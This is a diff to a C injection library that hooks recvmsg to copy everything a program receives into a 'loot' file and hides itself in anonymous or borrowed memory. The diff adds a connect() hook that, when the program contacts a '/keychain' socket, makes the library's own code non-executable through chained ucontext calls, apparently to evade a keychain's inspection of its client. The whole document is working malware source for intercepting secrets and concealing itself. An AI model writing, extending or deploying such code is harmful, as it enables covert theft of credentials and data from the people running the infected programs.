@@ -1,17 +1,23 @@
 // A library that is put into another program: it keeps what that program receives in the file that LOOT names. With HIDE it first
-// moves itself into memory that belongs to no file, or, if HIDE is the path of a file, into written pages of that file's.
+// moves itself into memory that belongs to no file, or, if HIDE is the path of a file, into written pages of that file's. With STILL too,
+// its code there cannot be executed while the program connects to the keychain and waits to be greeted.
 #define _GNU_SOURCE
 #include <dlfcn.h>
 #include <fcntl.h>
+#include <poll.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/socket.h>
+#include <sys/un.h>
+#include <ucontext.h>
 #include <unistd.h>
 
 static int loot = -1;
+// Its code, once it has moved.
+static uintptr_t code, code_size;
 
 // So that it can be an audit module too.
 unsigned la_version(unsigned version) { return version; }
@@ -25,6 +31,32 @@ ssize_t recvmsg(int connection, struct msghdr *message, int flags) {
         if (write(loot, message->msg_iov[part].iov_base, (ssize_t)size < left ? size : (size_t)left) < 0) break;
     }
     return count;
+}
+
+// What is executed meanwhile are functions of the C library alone, each of which goes on with the next one.
+int connect(int connection, const struct sockaddr *address, socklen_t length) {
+    static int (*real)(int, const struct sockaddr *, socklen_t);
+    static char stacks[4][65536];
+    ucontext_t steps[5];
+    struct pollfd greeting = {.fd = connection, .events = POLLIN};
+    struct sockaddr_un peer;
+    socklen_t size = sizeof peer;
+    if (!real) *(void **)&real = dlsym(RTLD_NEXT, "connect");
+    if (!code || !getenv("STILL") || address->sa_family != AF_UNIX || !strstr(((const struct sockaddr_un *)address)->sun_path, "/keychain"))
+        return real(connection, address, length);
+    struct { void *function; uintptr_t words[3]; } calls[4] = {
+        {(void *)mprotect, {code, code_size, PROT_READ}}, {(void *)real, {(uintptr_t)connection, (uintptr_t)address, length}},
+        {(void *)poll, {(uintptr_t)&greeting, 1, (uintptr_t)-1}}, {(void *)mprotect, {code, code_size, PROT_READ | PROT_EXEC}},
+    };
+    for (int index = 0; index < 4; index++) {
+        if (getcontext(&steps[index])) _exit(95);
+        steps[index].uc_stack.ss_sp = stacks[index];
+        steps[index].uc_stack.ss_size = sizeof stacks[index];
+        steps[index].uc_link = &steps[index + 1];
+        makecontext(&steps[index], (void (*)(void))calls[index].function, 3, calls[index].words[0], calls[index].words[1], calls[index].words[2]);
+    }
+    if (swapcontext(&steps[4], &steps[0])) _exit(94);
+    return getpeername(connection, (struct sockaddr *)&peer, &size);
 }
 
 // A copy of each piece of this library takes the piece's place; what runs goes on in the copy.
@@ -49,6 +81,7 @@ static void hide(const char *in) {
         memcpy(copy, (void *)piece[0], piece[1]);
         if (mprotect(copy, piece[1], (int)piece[2])) _exit(98);
         if (mremap(copy, piece[1], piece[1], MREMAP_MAYMOVE | MREMAP_FIXED, (void *)piece[0]) == MAP_FAILED) _exit(97);
+        if (piece[2] & PROT_EXEC) { code = piece[0]; code_size = piece[1]; }
     }
 }
 
